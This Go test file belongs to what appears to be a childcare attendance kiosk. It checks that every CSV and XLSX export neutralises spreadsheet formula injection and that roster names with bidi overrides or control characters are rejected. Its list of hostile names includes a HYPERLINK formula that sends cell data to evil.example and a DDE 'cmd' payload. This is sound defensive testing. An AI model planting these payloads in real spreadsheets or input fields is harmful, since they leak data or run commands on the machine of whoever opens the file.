package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/kinderdeur/kiosk/attendance/roster"
	"github.com/kinderdeur/kiosk/attendance/sheet"
	"github.com/kinderdeur/kiosk/sync/central/auth"
)

// hostile are names a parent or an admin could type that a spreadsheet
// would run as formulas if written raw.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"Zoë")`, "+31612345678", "-1+2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"}

// TestEveryExportDefusesFormulas renames the demo's children, guardians
// and groups to formulas, then downloads every export in every format
// and checks that no cell starts with = + - @ tab or CR (a negative
// number excepted), on both backends.
func TestEveryExportDefusesFormulas(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		r, _, err := e.db.Sites.Roster(ctx, "loc-regenboog")
		if err != nil {
			t.Fatal(err)
		}
		for i := range r.Children {
			r.Children[i].FirstName = hostile[i%len(hostile)]
		}
		for i := range r.People {
			r.People[i].Name = hostile[(i+1)%len(hostile)]
		}
		for i := range r.Groups {
			r.Groups[i].Name = hostile[(i+2)%len(hostile)]
		}
		r.Version = 0
		if _, err := e.db.Sites.PutRoster(ctx, r); err != nil {
			t.Fatal(err)
		}
		c := e.signedIn(t, auth.RoleAdmin)
		day := e.day.String()
		month := day[:8]
		var paths []string
		for _, f := range []string{"csv", "csv-excel", "xlsx"} {
			paths = append(paths,
				"/api/v1/attendance?location=loc-regenboog&from="+month+"01&to="+day+"&format="+f,
				"/locations/loc-regenboog/billing/export?kind=summary&from="+month+"01&to="+day+"&format="+f,
				"/locations/loc-regenboog/billing/export?kind=lines&from="+month+"01&to="+day+"&format="+f,
				"/locations/loc-regenboog/statements/nl?year="+day[:4]+"&format="+f,
				"/locations/loc-regenboog/statements/be?year="+day[:4]+"&profile=anzegem-bko&format="+f,
				"/locations/loc-regenboog/inspection.csv?group=g-rupsen&date="+day+"&format="+f,
			)
		}
		for _, p := range paths {
			code, body, h := c.do(t, http.MethodGet, p, nil)
			if code != http.StatusOK {
				t.Errorf("GET %s: %d %s", p, code, body)
				continue
			}
			ext := ".csv\""
			if strings.HasSuffix(p, "xlsx") {
				ext = ".xlsx\""
				if h.Get("Content-Type") != sheet.XLSX.ContentType() {
					t.Errorf("GET %s: Content-Type %q", p, h.Get("Content-Type"))
				}
			}
			if cd := h.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=\"") || !strings.HasSuffix(cd, ext) {
				t.Errorf("GET %s: Content-Disposition %q", p, cd)
			}
			cells := cellsOf(t, p, h.Get("Content-Type"), []byte(body))
			if len(cells) < 10 {
				t.Errorf("GET %s: only %d cells", p, len(cells))
			}
			seen := false
			for _, cell := range cells {
				if sheet.Dangerous(cell) {
					t.Errorf("GET %s: cell %q would run as a formula", p, cell)
				}
				seen = seen || strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'+") || strings.HasPrefix(cell, "'@")
			}
			if !seen {
				t.Errorf("GET %s: no defused hostile name among %d cells", p, len(cells))
			}
		}
	})
}

func cellsOf(t *testing.T, path, ctype string, body []byte) []string {
	t.Helper()
	var out []string
	if strings.Contains(ctype, "spreadsheetml") {
		f, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		defer f.Close()
		rows, err := f.GetRows(f.GetSheetName(0), excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, r := range rows {
			out = append(out, r...)
		}
		return out
	}
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	if strings.Contains(path, "csv-excel") {
		cr.Comma = ';'
	}
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	for _, r := range recs {
		out = append(out, r...)
	}
	return out
}

// TestRosterRefusesHiddenCharacters: a roster edit with a control
// character or a bidi override in a name is refused, on both backends.
func TestRosterRefusesHiddenCharacters(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		for _, name := range []string{"Zo\u202Eë", "Zoë\u2066x", "Zoë\tx", "Zoë\r", "Zo\x00ë"} {
			r, _, err := e.db.Sites.Roster(ctx, "loc-regenboog")
			if err != nil {
				t.Fatal(err)
			}
			r.Children[0].FirstName = name
			r.Version = 0
			if _, err := e.db.Sites.PutRoster(ctx, r); !errors.Is(err, roster.ErrBadName) {
				t.Errorf("PutRoster with child %q: err = %v, want ErrBadName", name, err)
			}
		}
	})
}
